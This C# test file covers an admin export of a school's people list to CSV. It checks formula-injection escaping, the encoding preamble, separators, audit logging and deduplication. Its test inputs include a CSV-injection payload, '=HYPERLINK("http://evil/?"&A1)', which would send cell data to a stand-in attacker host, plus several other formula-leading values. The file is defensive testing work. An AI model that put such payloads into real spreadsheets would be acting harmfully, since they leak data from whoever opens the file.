using System.Text;
using Chat.Web.Access;
using Chat.Web.Tests.TestSupport;
using Microsoft.EntityFrameworkCore;
using static Chat.Web.Tests.TestSupport.Patience;

namespace Chat.Web.Tests.Admin;

/// <summary>The list of people as a file, which somebody will open in a spreadsheet.</summary>
public sealed class ExportingPeopleTests : IAsyncLifetime
{
    private readonly SchoolHouse _school = new();

    public async ValueTask InitializeAsync() => await _school.OpenAsync();

    public ValueTask DisposeAsync() => _school.DisposeAsync();

    [Theory]
    [InlineData("=HYPERLINK(\"http://evil/?\"&A1)")]
    [InlineData("+7+1")]
    [InlineData("-2+3")]
    [InlineData("@SUM(A1)")]
    [InlineData("＝1+1")]
    public async Task Nobodys_name_is_a_formula(string name)
    {
        await _school.AdmitAsync(name, Role.Student);

        var file = await ExportAsync("?role=student");

        Assert.Contains($"'{name.Replace("\"", "\"\"", StringComparison.Ordinal)}", file, StringComparison.Ordinal);
        Assert.DoesNotContain(file.Split('\n', ',', ';'), cell => cell.TrimStart('"').IndexOfAny(['=', '+', '-', '@', '＝']) == 0);
    }

    [Fact]
    public async Task It_holds_whom_the_filter_leaves_and_begins_as_spreadsheets_expect()
    {
        var comma = await ExportAsync("?q=иванова");
        var semicolon = await ExportAsync("?q=иванова&separator=semicolon");

        Assert.Equal(Encoding.UTF8.GetPreamble(), await BeginningAsync());
        Assert.Equal(3, comma.Trim().Split('\n').Length);
        Assert.Contains("Анна Иванова,anna.ivanova@student.com", comma, StringComparison.Ordinal);
        Assert.Contains("Елена Иванова;parent1@test.com", semicolon, StringComparison.Ordinal);
    }

    [Fact]
    public async Task It_is_written_down_with_what_was_asked_for_and_how_much_it_was()
    {
        await ExportAsync("?role=student&q=%22а%22");
        await ExportAsync("?role=student");

        await using var db = _school.OpenDb();
        var entry = await db.AuditEntries.OrderByDescending(e => e.Id).FirstAsync(Stop);
        Assert.Equal(("people.exported", "Student", "3", _school.Admin.Id), (entry.Action, entry.Reason, entry.After, entry.ActorId));
    }

    [Fact]
    public async Task However_many_there_are_each_is_in_it_once()
    {
        await _school.AdmitManyAsync(2_100, "Many");

        var rows = (await ExportAsync("?q=many")).Trim().Split('\n').Skip(1).ToList();

        Assert.Equal(2_100, rows.Count);
        Assert.Equal(2_100, rows.Distinct(StringComparer.Ordinal).Count());
    }

    /// <summary>As it comes: whoever reads it as text no longer sees the mark.</summary>
    private async Task<byte[]> BeginningAsync()
    {
        var (name, value) = await _school.CookieOfAsync(_school.Admin);
        using var request = new HttpRequestMessage(HttpMethod.Get, "/admin/people/export");
        request.Headers.Add(name, value);
        using var answer = await _school.Line.SendAsync(request, Stop);
        return (await answer.Content.ReadAsByteArrayAsync(Stop))[..3];
    }

    private async Task<string> ExportAsync(string query) =>
        (await _school.CallAs().GetAsync($"/admin/people/export{query}", await _school.CookieOfAsync(_school.Admin))).Is(200).Body;
}
